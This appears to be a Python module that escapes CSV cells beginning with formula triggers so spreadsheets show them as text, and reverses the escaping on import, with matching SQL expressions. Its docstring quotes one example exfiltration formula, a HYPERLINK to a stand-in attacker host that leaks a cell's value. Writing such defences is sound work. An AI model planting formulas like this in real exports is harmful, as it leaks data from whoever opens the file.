"""CSV cells that a spreadsheet would run as a formula are neutralised on export and restored on import.

The OWASP rule for CSV injection: a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return is a formula
to Excel, LibreOffice and Google Sheets (`=HYPERLINK("http://evil.example/?leak="&B2,"x")` leaks data when opened).
Every text cell of every CSV export goes through `escape`, which prefixes such a cell with a single quote, so the
spreadsheet shows it as text. Numbers are written as numbers and never escaped (a negative handle time or tenure
stays `-1.5`); only text can start a formula.

The escaping is a bijection on text, so an exported file uploads again to exactly the same values: a cell made of
single quotes followed by a trigger character gains one more quote on export (`'=x` becomes `''=x`), and the import
side (`unescape`, used by the roster and outcome CSV readers) removes exactly one quote from such cells and leaves
every other cell alone.
"""

from __future__ import annotations

TRIGGERS = frozenset("=+-@\t\r")
QUOTE = "'"


def needs_escape(value: str) -> bool:
    """Whether `value` (after any leading single quotes) starts with a formula trigger."""
    stripped = value.lstrip(QUOTE)
    return bool(stripped) and stripped[0] in TRIGGERS


def escape(value: str) -> str:
    """`value` as a CSV cell a spreadsheet shows as text (see module docstring)."""
    return QUOTE + value if needs_escape(value) else value


def unescape(cell: str) -> str:
    """The value an exported `cell` stood for: one leading quote removed where `escape` added it."""
    if cell and cell[0] == QUOTE and needs_escape(cell[1:]):
        return cell[1:]
    return cell


def sql_escape(column: str, dialect: str) -> str:
    """A SQL expression equal to `escape(column)` (NULL stays NULL), for exports written by the database itself."""
    tab, cr = ("char(9)", "char(13)") if dialect == "sqlite" else ("chr(9)", "chr(13)")
    first = f"substr(ltrim({column}, ''''), 1, 1)"
    exact = f"CASE WHEN {first} IN ('=', '+', '-', '@', {tab}, {cr}) THEN '''' || {column} ELSE {column} END"
    # Almost every cell starts with a letter or digit: one code-point test settles those before the exact rule runs.
    code = "unicode" if dialect == "sqlite" else "ascii"
    suspects = ", ".join(str(ord(character)) for character in sorted(TRIGGERS | {QUOTE}))
    suspect = f"CASE WHEN {code}({column}) IN ({suspects}) THEN {exact} ELSE {column} END"
    if dialect != "sqlite":
        return suspect
    # Every trigger and the quote sort before 'A' bytewise (SQLite's default collation): a cell starting with a
    # letter is settled by one comparison, without a function call.
    return f"CASE WHEN {column} >= 'A' THEN {column} ELSE {suspect} END"
